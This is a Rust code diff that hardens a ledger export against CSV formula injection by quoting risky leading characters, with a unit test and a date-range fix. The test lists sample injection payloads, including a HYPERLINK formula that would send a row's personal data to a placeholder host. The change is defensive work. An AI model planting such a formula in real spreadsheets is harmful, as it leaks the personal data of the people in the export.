@@ -148,10 +148,22 @@ impl From<&str> for Cell {
 impl Cell {
     fn csv_text(&self) -> String {
         match self {
-            Cell::Text(text) => text.clone(),
+            Cell::Text(text) => csv_safe(text),
             Cell::Date(day) => day.to_string(),
             Cell::Count(n) => n.to_string(),
         }
+    }
+}
+
+/// A citizen's or deputy's text as a CSV cell that a spreadsheet shows and never runs: a cell
+/// starting with `=`, `+`, `-`, `@`, a tab or a carriage return would be read as a formula by
+/// Excel (`=HYPERLINK(...)` could send the row's personal data away), so it gets a leading `'`,
+/// which Excel shows as text. (The xlsx cells are written as strings and need no such care.)
+fn csv_safe(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
     }
 }
 
@@ -242,7 +254,9 @@ pub fn xlsx(
                 Cell::Date(day) => {
                     let (y, m, d) = day.ymd();
                     match (u16::try_from(y), u8::try_from(m), u8::try_from(d)) {
-                        (Ok(y), Ok(m), Ok(d)) if y >= 1900 => {
+                        // Excel's dates run from 1900 to 9999; a tablet with a wrong clock can
+                        // have recorded anything, which is written as text, not refused.
+                        (Ok(y), Ok(m), Ok(d)) if (1900..=9999).contains(&y) => {
                             let value = ExcelDateTime::from_ymd(y, m, d)?;
                             worksheet.write_datetime_with_format(row, column, &value, &date)?;
                         }
@@ -661,6 +675,23 @@ async fn export_ledger(
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_run_are_made_text() {
+        for formula in [
+            "=HYPERLINK(\"http://x/?\"&E2,\"详情\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+        ] {
+            assert_eq!(Cell::Text(formula.into()).csv_text(), format!("'{formula}"));
+        }
+        assert_eq!(Cell::Text("小区停车难".into()).csv_text(), "小区停车难");
+        assert_eq!(Cell::Text("a=b".into()).csv_text(), "a=b");
+        assert_eq!(Cell::Count(3).csv_text(), "3");
+    }
 
     #[test]
     fn rfc5987_keeps_attr_chars_and_encodes_the_rest() {
